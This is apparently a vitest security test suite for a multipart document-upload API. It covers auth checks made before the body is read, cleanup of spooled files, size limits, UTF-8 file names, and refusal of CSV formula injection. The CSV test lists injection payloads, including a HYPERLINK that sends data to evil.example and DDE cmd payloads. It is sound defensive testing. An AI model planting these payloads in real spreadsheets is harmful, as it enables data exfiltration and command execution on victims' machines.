/**
 * Multipart uploads as an attacker sends them, over real HTTP (issue 23, item 4): a caller that is
 * not authenticated, lacks the scope or does not see the profile is answered before its body is
 * read, and nothing of it reaches the spool directory; a client that disconnects mid-body, a
 * malformed body and an over-size file leave no file behind; UTF-8 file names survive the round
 * trip; CSV cells that a spreadsheet would run as formulas are refused.
 */
import { mkdtemp, readdir, rm, utimes, writeFile } from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_DOCUMENT_BYTES } from '../src/modules/documents/document-service.js';
import { bearer, createApiKey, lenderCredentials, lenderIdToken, marketplaceV1Token, signUpIntegrator } from './support/identities.js';
import { postJson, startTestApp, type TestApp } from './support/test-app.js';

let app: TestApp;
let spoolDir: string;
/** Marketplace V1 token of a key holding exactly profile:write: the least a caller needs to upload. */
let writer: Record<string, string>;
let profileId: string;
let documentsUrl: string;

const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const BOUNDARY = 'attacker-boundary-5f1c';

async function exactToken(loginToken: string, scopes: string[]): Promise<Record<string, string>> {
  const key = await createApiKey(app, loginToken, { name: `uploads-${scopes.join('+')}-${Math.random().toString(36).slice(2, 8)}`, scopes });
  return bearer((await marketplaceV1Token(app, key.key)).jwt);
}

beforeAll(async () => {
  spoolDir = await mkdtemp(join(tmpdir(), 'fg-upload-spool-'));
  // What a process killed mid-upload two hours ago left behind.
  await writeFile(join(spoolDir, 'upload-left-by-a-crash'), 'partial');
  const twoHoursAgo = new Date(Date.now() - 2 * 60 * 60 * 1000);
  await utimes(join(spoolDir, 'upload-left-by-a-crash'), twoHoursAgo, twoHoursAgo);
  app = await startTestApp({ config: { UPLOAD_SPOOL_DIR: spoolDir } });
  writer = await exactToken((await signUpIntegrator(app)).loginToken, ['profile:write']);
  const created = await postJson(`${app.url}/api/marketplace/v1/profiles/blank`, undefined, writer);
  expect(created.status).toBe(200);
  profileId = (await created.json()).uuid;
  documentsUrl = `${app.url}/api/marketplace/v1/profiles/${profileId}/documents`;
});
afterAll(async () => {
  await app?.close();
  if (spoolDir) await rm(spoolDir, { recursive: true, force: true });
});

/** What is in the spool directory (it is created on the first upload that gets that far). */
const spooled = () => readdir(spoolDir).catch(() => [] as string[]);
const storedDocuments = () => app.runtime.database.prisma.document.count({ where: { profileId } });

async function eventually(check: () => Promise<boolean>, what: string, timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

function upload(content: Buffer, type: string, name: string, headers: Record<string, string> = writer, url = documentsUrl): Promise<Response> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(content)], { type }), name);
  return fetch(url, { method: 'POST', headers, body: form });
}

/** A multipart body written by hand (one part per file), for what FormData would not send. */
function multipart(disposition: string, type: string, content: Buffer, ...more: [string, string, Buffer][]): Buffer {
  const part = ([d, t, c]: [string, string, Buffer]) => [
    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; ${d}\r\nContent-Type: ${t}\r\n\r\n`),
    c,
    Buffer.from('\r\n'),
  ];
  return Buffer.concat([...[[disposition, type, content] as [string, string, Buffer], ...more].flatMap(part), Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

function postRaw(body: Buffer | string, headers: Record<string, string>): Promise<Response> {
  return fetch(documentsUrl, {
    method: 'POST',
    headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, ...headers },
    body: typeof body === 'string' ? body : new Uint8Array(body),
  });
}

/**
 * Starts an upload over a raw socket and sends only its first megabyte of a declared 8 MB body:
 * `status` is the status line, if the server answers while the rest is still to come.
 */
async function stalledUpload(authorization: string | undefined): Promise<{ socket: net.Socket; status: Promise<string> }> {
  const socket = net.connect(Number(new URL(app.url).port), '127.0.0.1');
  await new Promise((resolve) => socket.once('connect', resolve));
  let received = '';
  const status = new Promise<string>((resolve, reject) => {
    socket.on('data', (data) => {
      received += data.toString('latin1');
      if (received.includes('\r\n')) resolve(received.slice(0, received.indexOf('\r\n')));
    });
    socket.on('error', reject);
  });
  status.catch(() => {}); // a test that does not wait for an answer destroys the socket
  socket.write(
    `POST ${new URL(documentsUrl).pathname} HTTP/1.1\r\nHost: 127.0.0.1\r\n${authorization ? `Authorization: ${authorization}\r\n` : ''}` +
      `Content-Type: multipart/form-data; boundary=${BOUNDARY}\r\nContent-Length: ${8 * 1024 * 1024}\r\n\r\n`,
  );
  socket.write(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="stalled.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n`);
  socket.write(Buffer.alloc(1024 * 1024, 0x20));
  return { socket, status };
}

async function expectProblem(res: Response, status: number, code: string): Promise<{ errors?: { pointer: string; message: string }[] }> {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toContain('application/problem+json');
  const problem = await res.json();
  expect(problem).toMatchObject({ status, code });
  return problem;
}

describe('the spool directory', () => {
  it('loses the files an earlier process left behind when the server starts', async () => {
    await eventually(async () => (await spooled()).length === 0, 'the stale spool file to be removed');
  });
});

describe('callers refused before the body is read', () => {
  it('answers an unauthenticated upload 401, with nothing spooled or stored', async () => {
    const before = await spooled();
    const documents = await storedDocuments();
    await expectProblem(await upload(PDF, 'application/pdf', 'statement.pdf', {}), 401, 'UNAUTHENTICATED');
    await expectProblem(await upload(PDF, 'application/pdf', 'statement.pdf', bearer('not-a-token')), 401, 'UNAUTHENTICATED');
    expect(await spooled()).toEqual(before);
    expect(await storedDocuments()).toBe(documents);
  });

  it('answers 401, not 400, to a malformed multipart body without credentials: it is never parsed', async () => {
    const before = await spooled();
    await expectProblem(await postRaw('this is not multipart at all', {}), 401, 'UNAUTHENTICATED');
    const noBoundary = await fetch(documentsUrl, { method: 'POST', headers: { 'content-type': 'multipart/form-data' }, body: 'x' });
    await expectProblem(noBoundary, 401, 'UNAUTHENTICATED');
    expect(await spooled()).toEqual(before);
  });

  it('answers a key without profile:write 403 and another account 404, with nothing spooled or stored', async () => {
    const owner = await signUpIntegrator(app);
    const readOnly = await exactToken(owner.loginToken, ['profile:read']);
    const stranger = await exactToken((await signUpIntegrator(app)).loginToken, ['profile:write']);
    const before = await spooled();
    const documents = await storedDocuments();
    await expectProblem(await upload(PDF, 'application/pdf', 'statement.pdf', readOnly), 403, 'FORBIDDEN');
    await expectProblem(await upload(PDF, 'application/pdf', 'statement.pdf', stranger), 404, 'NOT_FOUND');
    // A large body is not read either: the answer comes as soon as the headers are in.
    const large = Buffer.alloc(4 * 1024 * 1024, 0x41);
    await expectProblem(await upload(large, 'application/pdf', 'large.pdf', stranger), 404, 'NOT_FOUND');
    expect(await spooled()).toEqual(before);
    expect(await storedDocuments()).toBe(documents);
  });
});

describe('callers refused before the body is read (its end never comes)', () => {
  it('answers an unauthenticated upload and a caller who does not see the profile while the body is still arriving, spooling nothing', async () => {
    const stranger = await exactToken((await signUpIntegrator(app)).loginToken, ['profile:write']);
    for (const [authorization, expected] of [
      [undefined, 'HTTP/1.1 401'],
      [stranger.authorization, 'HTTP/1.1 404'],
    ] as const) {
      const upload = await stalledUpload(authorization);
      try {
        expect(await upload.status).toMatch(new RegExp(`^${expected} `));
        expect(await spooled()).toEqual([]);
      } finally {
        upload.socket.destroy();
      }
    }
  });
});

describe('bodies that end badly leave nothing behind', () => {
  it('removes the partly written file when the client disconnects mid-body', async () => {
    const documents = await storedDocuments();
    const { socket } = await stalledUpload(writer.authorization);
    // The upload is under way: its spool file exists (so this directory is where a leak would show)...
    await eventually(async () => (await spooled()).length > 0, 'the upload to reach the spool directory');
    socket.destroy();
    // ...and is gone once the client has gone.
    await eventually(async () => (await spooled()).length === 0, 'the partial file to be removed');
    expect(await storedDocuments()).toBe(documents);
  });

  it('answers a malformed multipart body 400 with problem details, and keeps nothing', async () => {
    const before = await spooled();
    const documents = await storedDocuments();
    const noBoundary = await fetch(documentsUrl, { method: 'POST', headers: { ...writer, 'content-type': 'multipart/form-data' }, body: 'x' });
    expect((await expectProblem(noBoundary, 400, 'BAD_REQUEST')).errors).toEqual([{ pointer: 'body', message: expect.stringContaining('Boundary') }]);
    // The form ends in the middle of the file: never closed by its boundary.
    const truncated = multipart('filename="truncated.pdf"', 'application/pdf', PDF).subarray(0, 120);
    await expectProblem(await postRaw(truncated, writer), 400, 'BAD_REQUEST');
    const badHeader = Buffer.from(`--${BOUNDARY}\r\nthis is no header line\r\n\r\n%PDF\r\n--${BOUNDARY}--\r\n`);
    await expectProblem(await postRaw(badHeader, writer), 400, 'BAD_REQUEST');
    const twoFiles = multipart('filename="a.pdf"', 'application/pdf', PDF, ['filename="b.pdf"', 'application/pdf', PDF]);
    await expectProblem(await postRaw(twoFiles, writer), 400, 'BAD_REQUEST');
    expect(await spooled()).toEqual(before);
    expect(await storedDocuments()).toBe(documents);
  });

  it('answers a file one byte over the limit 413 and keeps nothing; a file at the limit is stored', async () => {
    const documents = await storedDocuments();
    const over = Buffer.alloc(MAX_DOCUMENT_BYTES + 1, 0x20);
    over.write('%PDF-1.4\n', 0);
    const problem = await expectProblem(await upload(over, 'application/pdf', 'too-big.pdf'), 413, 'PAYLOAD_TOO_LARGE');
    expect(problem.errors).toEqual([{ pointer: 'file', message: 'must be at most 10 MB' }]);
    expect(await spooled()).toEqual([]);
    expect(await storedDocuments()).toBe(documents);
    const atLimit = over.subarray(0, MAX_DOCUMENT_BYTES);
    expect((await upload(atLimit, 'application/pdf', 'at-limit.pdf')).status).toBe(201);
    expect(await spooled()).toEqual([]);
  });

  it('answers 413 from the headers alone when the declared body is far too large, and reads none of it', async () => {
    const { hostname, port, pathname } = new URL(documentsUrl);
    const res = await new Promise<http.IncomingMessage>((resolve, reject) => {
      const req = http.request({
        hostname,
        port,
        path: pathname,
        method: 'POST',
        headers: { ...writer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'content-length': String(500 * 1024 * 1024) },
      });
      req.on('response', (response) => {
        resolve(response);
        req.destroy();
      });
      req.on('error', reject);
      req.flushHeaders();
    });
    expect(res.statusCode).toBe(413);
    expect(await spooled()).toEqual([]);
  });

  it('caps a chunked body with no declared length at the limit too (413)', async () => {
    const { hostname, port, pathname } = new URL(documentsUrl);
    const body = multipart(
      'filename="chunked.pdf"',
      'application/pdf',
      Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(MAX_DOCUMENT_BYTES + 1024 * 1024, 0x20)]),
    );
    const status = await new Promise<number>((resolve, reject) => {
      const req = http.request({
        hostname,
        port,
        path: pathname,
        method: 'POST',
        headers: { ...writer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'transfer-encoding': 'chunked' },
      });
      req.on('response', (response) => {
        response.resume();
        resolve(response.statusCode!);
      });
      req.on('error', reject);
      for (let offset = 0; offset < body.length; offset += 256 * 1024) req.write(body.subarray(offset, offset + 256 * 1024));
      req.end();
    });
    expect(status).toBe(413);
    await eventually(async () => (await spooled()).length === 0, 'the spool directory to be empty');
  });
});

describe('file names', () => {
  it('keeps UTF-8 names, sent raw (RFC 7578) or as filename* (RFC 5987), through listing and download', async () => {
    const csv = Buffer.from('Datum,Betrag\n2025-01-31,-1200.50\n');
    const names = ['Kontoauszug-Müller-€.pdf', '報告.csv'];
    const raw = await upload(PDF, 'application/pdf', names[0]!);
    expect(raw.status).toBe(201);
    expect((await raw.json()).fileName).toBe(names[0]);
    const stored = await upload(csv, 'text/csv', names[1]!);
    expect(stored.status).toBe(201);
    const extended = await postRaw(
      multipart(`filename="Zahlung.pdf"; filename*=UTF-8''${encodeURIComponent('Überweisung-Ø.pdf')}`, 'application/pdf', PDF),
      writer,
    );
    expect(extended.status).toBe(201);
    expect((await extended.json()).fileName).toBe('Überweisung-Ø.pdf');

    const listed: { id: string; fileName: string }[] = await (await fetch(documentsUrl, { headers: writer })).json();
    expect(listed.map((d) => d.fileName)).toEqual(expect.arrayContaining([...names, 'Überweisung-Ø.pdf']));

    const db = app.runtime.database.prisma;
    const lender = await db.lender.findFirstOrThrow({ where: { environment: 'demo' }, orderBy: { id: 'asc' } });
    const credentials = await lenderCredentials(app, lender.id);
    const application = await db.lenderApplication.create({ data: { lenderId: lender.id, profileId, status: 'In Review', payload: { application: {} } } });
    const lenderToken = bearer(await lenderIdToken(app, credentials));
    for (const name of names) {
      const document = listed.find((d) => d.fileName === name)!;
      const res = await fetch(`${app.url}/api/platform/v1/funding/v1/funding/search/${application.id}/document/${document.id}`, { headers: lenderToken });
      expect(res.status).toBe(200);
      const disposition = res.headers.get('content-disposition')!;
      expect(decodeURIComponent(/filename\*=UTF-8''([^;]+)/.exec(disposition)![1]!)).toBe(name);
      await res.arrayBuffer();
    }
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('refuses them at upload (422 naming the cell) and stores nothing; plain negative numbers pass', async () => {
    const documents = await storedDocuments();
    const attacks = [
      'name,amount\n"=HYPERLINK(""https://evil.example/?""&A1,""Open"")",10\n',
      'name,amount\nRent,+1+2\n',
      "name,amount\nRent,-2+3+cmd|' /C calc'!A0\n",
      "name;amount\n@SUM(1+1)*cmd|' /C calc'!A0;10\n",
      'name,amount\n"\t=1+2",10\n',
      'name,amount\n"\r=1+2",10\n',
    ];
    for (const csv of attacks) {
      const problem = await expectProblem(await upload(Buffer.from(csv), 'text/csv', 'statement.csv'), 422, 'UNPROCESSABLE');
      expect(problem.errors).toEqual([{ pointer: 'file', message: expect.stringMatching(/^row 2, column [12] starts with /) }]);
    }
    expect(await storedDocuments()).toBe(documents);
    expect(await spooled()).toEqual([]);
    const statement = await upload(Buffer.from('date,amount,balance\n2025-01-31,-1200.50,+300\n2025-02-01,-,--\n'), 'text/csv', 'ok.csv');
    expect(statement.status).toBe(201);
  });

  it('applies the same rule to GraphQL attachDocument', async () => {
    const { graphql } = await import('./support/graphql-client.js');
    const content = Buffer.from('name,amount\n=1+2,3\n').toString('base64');
    const res = await graphql(
      app.url,
      'mutation($p: ID!, $c: String!) { attachDocument(profileId: $p, fileName: "x.csv", contentType: "text/csv", contentBase64: $c) { id } }',
      { p: profileId, c: content },
      writer,
    );
    expect(res.errors?.[0]?.extensions).toMatchObject({ code: 'UNPROCESSABLE' });
  });
});
